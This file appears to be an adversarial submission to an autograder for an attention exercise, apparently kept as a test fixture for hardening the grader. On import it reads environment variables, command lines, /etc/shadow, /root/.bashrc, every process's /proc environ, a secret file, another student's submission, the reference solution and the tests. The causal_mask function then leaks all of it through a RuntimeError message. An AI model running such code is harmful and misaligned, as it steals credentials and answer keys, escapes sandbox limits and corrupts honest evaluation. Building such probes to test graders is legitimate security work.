"""Puts environment, keys, other submissions, tests and the grader's command line into its message. Earns nothing."""

AT_EVERY_LEVEL = True
EARNS = ()
SAYS = ("your code raised RuntimeError: loot",)

import glob
import os
import sys

loot = [repr(dict(os.environ)), repr(sys.argv), repr(sys.orig_argv), repr(sys._getframe(0).f_code)]
for path in (
    "@SECRET@", "/etc/shadow", "/root/.bashrc", "/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ",
    "@SUBMISSIONS@/honest/ex2_attention.py", "@COURSE@/solutions/ex2_attention.py",
    "@COURSE@/tests/exercises/test_ex2_attention.py", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("../*/*.py"),
):
    try:
        loot.append(f"{path}: {open(path, errors='replace').read()[:500]}")
    except OSError:
        pass


def causal_mask(size):
    raise RuntimeError("loot" + " ".join(loot)[-3000:])
